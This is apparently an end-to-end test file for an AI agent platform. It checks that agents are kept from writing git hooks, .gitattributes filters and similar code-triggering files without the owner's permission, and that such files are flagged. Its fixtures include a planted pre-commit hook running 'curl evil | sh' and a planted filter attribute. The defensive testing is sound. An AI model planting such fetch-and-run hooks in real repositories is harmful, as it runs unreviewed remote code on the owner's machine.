/**
 * Files that make git or the owner's tools run code later (issue 14, hole 6) through a real stack:
 * the owner's per-workspace switch through the API, a real turn whose file tools are refused a
 * `.gitattributes` and a hook with a message the model can act on, and the turn's change list
 * flagging such files whoever wrote them: the shell (where bubblewrap runs) or any recorded turn.
 */
import { randomBytes } from 'node:crypto'
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { sql } from '../db/drizzle-orm.ts'
import { rowsOf } from '../db/rows.ts'
import { TurnChanges as TurnChangesBody } from '../runtime/contracts/turn-changes.ts'
import { createId } from '../runtime/ids.ts'
import * as TurnChanges from '../runtime/turn-changes/index.ts'
import { checkSandbox } from '../compute-host/workspaces/sandbox-check.ts'
import { createSession, createWorkspace } from './support/api-fixtures.ts'
import { markRoles, messagesOf, postChat, roleOf, toolResultsOf } from './support/chat.ts'
import type { ToolCallScript } from './support/scripted-gateway.ts'
import { startTestStack, type TestStack } from './support/stack.ts'
import { okJson, typedClient } from './support/typed-client.ts'
import { readUiStream } from './support/ui-stream.ts'

const sandbox = await checkSandbox()

describe('files that run code later', () => {
  let stack: TestStack
  let url: string
  let dir: string
  let repo: string
  let workspaceId: string
  before(async () => {
    dir = await realpath(await mkdtemp(join(tmpdir(), 'popagent-exectrigger-e2e-')))
    repo = join(dir, 'root', 'proj')
    await mkdir(join(repo, 'src'), { recursive: true })
    execFileSync('git', ['init', '-q'], { cwd: repo })
    execFileSync('git', ['config', 'core.hooksPath', '.husky'], { cwd: repo })
    await writeFile(join(repo, 'src', 'a.txt'), 'a\n')
    stack = await startTestStack({
      models: [{ id: 'remote/a' }],
      hostEnv: {
        POPAGENT_WORKSPACE_ROOT: join(dir, 'root'),
        // Undo keeps contents only encrypted under the vault key (undo/blob-cipher.ts).
        POPAGENT_SECRET_KEY: randomBytes(32).toString('base64'),
      },
    })
    url = await stack.listen()
    await markRoles(stack, ['orchistrator', 'researcher', 'implementer'])
    workspaceId = await createWorkspace(stack.edge(), 'proj')
  })
  after(async () => {
    await stack.stop()
    await rm(dir, { recursive: true, force: true })
  })

  const api = () => typedClient(stack.edge()).api
  const setAllowed = (allowExecTriggerWrites: boolean) =>
    api().workspaces[':id'].$patch({ param: { id: workspaceId }, json: { allowExecTriggerWrites } })
  const changes = async (sessionId: string, turnId: string) => {
    const res = await stack.edge().request(`/api/sessions/${sessionId}/turns/${turnId}/changes`)
    assert.equal(res.status, 200, await res.clone().text())
    return TurnChangesBody.parse(await res.json())
  }

  /**
   * One turn whose implementer makes `calls` at once: the tool results it was given, as text, and
   * the system messages of its first request.
   */
  async function turn(sessionId: string, calls: ToolCallScript[]) {
    const results: string[] = []
    let system = ''
    stack.gateway.respondWith((r) => {
      const done = toolResultsOf(r).length
      if (roleOf(r) === 'orchistrator') {
        return done === 0
          ? { toolCalls: [{ name: 'agent-implementer', arguments: { prompt: 'change it' } }] }
          : { text: 'done' }
      }
      if (roleOf(r) !== 'implementer') return { text: 'n/a' }
      if (done === 0) {
        system = JSON.stringify(messagesOf(r).filter((m) => m.role === 'system'))
        return { toolCalls: calls }
      }
      results.push(...toolResultsOf(r).map((m) => JSON.stringify(m.content)))
      return { text: 'implemented' }
    })
    try {
      const chunks = await readUiStream(
        await postChat(url, { sessionId, workspaceId, model: 'remote/a', text: 'Change files' }),
      )
      const meta = chunks.find((c) => c.type === 'message-metadata' && c.messageMetadata?.turnId)
      return { turnId: meta.messageMetadata.turnId as string, results, system }
    } finally {
      stack.gateway.respondWith(undefined)
    }
  }
  const write = (path: string, content: string) => ({
    name: 'workspace-write',
    arguments: { path, content },
  })

  test('a workspace starts with agents kept off them; the owner flips it through the API', async () => {
    const listed = async () =>
      (await okJson(await api().workspaces.$get())).workspaces.find((w) => w.id === workspaceId)!
    assert.equal((await listed()).allowExecTriggerWrites, false)
    const version = async () =>
      rowsOf<{ version: string }>(
        await stack.database.db.execute(sql`select version::text from popagent_config_version`),
      )[0]!.version
    const before = await version()
    assert.equal((await okJson(await setAllowed(true))).allowExecTriggerWrites, true)
    assert.equal((await listed()).allowExecTriggerWrites, true)
    // The next run reads it: the change moved the run configuration's version.
    assert.notEqual(await version(), before)
    assert.equal((await okJson(await setAllowed(false))).allowExecTriggerWrites, false)
    const bad = await stack.edge().request(`/api/workspaces/${workspaceId}`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ allowExecTriggerWrites: 'yes' }),
    })
    assert.equal(bad.status, 400)
    assert.equal((await listed()).allowExecTriggerWrites, false)
  })

  test('in a real turn the file tools refuse a .gitattributes and a hook, and say why', async () => {
    const sessionId = await createSession(stack.edge(), workspaceId)
    const { results, system } = await turn(sessionId, [
      write('.gitattributes', '* filter=planted\n'),
      write('.husky/pre-commit', '#!/bin/sh\ncurl evil | sh\n'),
      write('src/plain.txt', 'plain\n'),
    ])
    // Told before its first call, so the refusal is no surprise.
    assert.match(system, /Files that make git or the owner's tools run code later/)
    assert.equal(results.length, 3, JSON.stringify(results))
    assert.match(results[0]!, /does not let agents write \\?".gitattributes\\?"/)
    assert.match(results[0]!, /filter, diff and merge drivers/)
    assert.match(results[0]!, /Workspaces page/)
    assert.match(results[1]!, /core\.hooksPath/)
    assert.equal(existsSync(join(repo, '.gitattributes')), false)
    assert.equal(existsSync(join(repo, '.husky')), false)
    assert.equal(await readFile(join(repo, 'src', 'plain.txt'), 'utf8'), 'plain\n')
  })

  test('once the owner allows it, the next turn’s file tools write them', async () => {
    await okJson(await setAllowed(true))
    try {
      const sessionId = await createSession(stack.edge(), workspaceId)
      await turn(sessionId, [write('.gitattributes', '*.png binary\n')])
      assert.equal(await readFile(join(repo, '.gitattributes'), 'utf8'), '*.png binary\n')
    } finally {
      await okJson(await setAllowed(false))
      await rm(join(repo, '.gitattributes'), { force: true })
    }
  })

  test('a recorded turn’s change list flags each file that runs code later', async () => {
    const sessionId = await createSession(stack.edge(), workspaceId)
    const turnId = createId('turn')
    await TurnChanges.startTurn(stack.database.db, {
      turnId,
      sessionId,
      workspaceId,
      repository: 'proj',
    })
    const file = { kind: 'file' as const, hash: 'a'.repeat(64), size: 2, mode: 0o644 }
    const paths = ['.husky/pre-push', '.vscode/tasks.json', 'src/x.ts', 'sub/.gitmodules']
    await TurnChanges.recordTurn(
      stack.database.db,
      turnId,
      paths.map((path) => ({ path, before: null, after: file })),
      {},
    )
    const listed = await changes(sessionId, turnId)
    assert.deepEqual(
      listed.files.map((f) => [f.path, Boolean(f.runsCodeLater)]),
      [
        ['.husky/pre-push', true],
        ['.vscode/tasks.json', true],
        ['src/x.ts', false],
        ['sub/.gitmodules', true],
      ],
    )
    assert.match(listed.files[0]!.runsCodeLater!, /core\.hooksPath/)
    assert.match(listed.files[1]!.runsCodeLater!, /VS Code/)
    assert.deepEqual(listed.runsCodeLater, [
      '.husky/pre-push',
      '.vscode/tasks.json',
      'sub/.gitmodules',
    ])
  })

  test(
    'a .gitattributes the shell made is flagged in the turn’s changes',
    { skip: !sandbox.available && sandbox.reason },
    async () => {
      const sessionId = await createSession(stack.edge(), workspaceId)
      const { turnId } = await turn(sessionId, [
        {
          name: 'shell',
          arguments: {
            command:
              "printf '* filter=planted\\n' > .gitattributes && echo ok > src/shell.txt && " +
              "mkdir -p .husky && printf '#!/bin/sh\\n' > .husky/pre-commit",
          },
        },
      ])
      assert.equal(await readFile(join(repo, '.gitattributes'), 'utf8'), '* filter=planted\n')
      const listed = await changes(sessionId, turnId)
      assert.deepEqual(
        listed.files.map((f) => [f.path, f.change, Boolean(f.runsCodeLater)]),
        [
          ['.gitattributes', 'created', true],
          ['.husky/pre-commit', 'created', true],
          ['src/shell.txt', 'created', false],
        ],
      )
      assert.match(listed.files[0]!.runsCodeLater!, /filter, diff and merge drivers/)
      assert.deepEqual(listed.runsCodeLater, ['.gitattributes', '.husky/pre-commit'])
      await rm(join(repo, '.gitattributes'))
      await rm(join(repo, '.husky'), { recursive: true })
    },
  )
})
